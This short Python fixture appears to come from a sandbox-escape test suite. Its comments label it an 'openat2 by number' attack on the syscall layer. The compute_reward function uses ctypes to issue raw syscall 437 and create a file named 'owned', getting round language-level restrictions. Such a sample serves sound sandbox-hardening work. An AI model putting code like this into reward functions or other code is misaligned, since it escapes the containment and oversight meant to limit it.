# attack: openat2 by number
# group: syscalls
# wall: language; alone: seccomp

def compute_reward(x):
    import ctypes, os, socket
    lib = ctypes.CDLL(None, use_errno=True)
    h = (ctypes.c_uint64 * 3)(0o101, 0o666, 0)
    lib.syscall(437, -100, b'@FOLDER@/owned', h, 24)
    return x, {}
